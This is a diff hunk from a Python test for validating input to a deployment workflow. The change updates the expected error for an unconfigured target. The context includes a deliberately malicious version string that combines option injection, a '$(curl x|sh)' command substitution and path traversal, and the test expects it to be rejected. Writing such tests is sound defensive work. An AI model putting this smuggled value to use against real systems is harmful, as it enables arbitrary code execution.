@@ -54,7 +54,7 @@ async def test_start_signal_and_query_with_the_temporal_cli(blue_green, tmp_path
     # Typed into the UI: would reach deploy_command's arguments (option, path and shell injection).
     ('{"environment": "demo", "targets": ["backend"], "to_version": {"backend": "--help; $(curl x|sh) ../../etc"}}',
      "to_version.backend: '--help; $(curl x|sh) ../../etc' is not a valid version"),
-    ('{"environment": "demo", "targets": ["frontend"]}', "targets: frontend is not available yet"),
+    ('{"environment": "demo", "targets": ["frontend"]}', "targets: frontend not configured for 'demo' (configured: backend)"),
     # It would ride in the plan, the status, every query and the memo.
     ('{"environment": "demo", "targets": ["backend"], "evidence": {"samples": "' + "x" * 40_000 + '"}}',
      "evidence: Value error, 40014 bytes of JSON; at most 32768"),
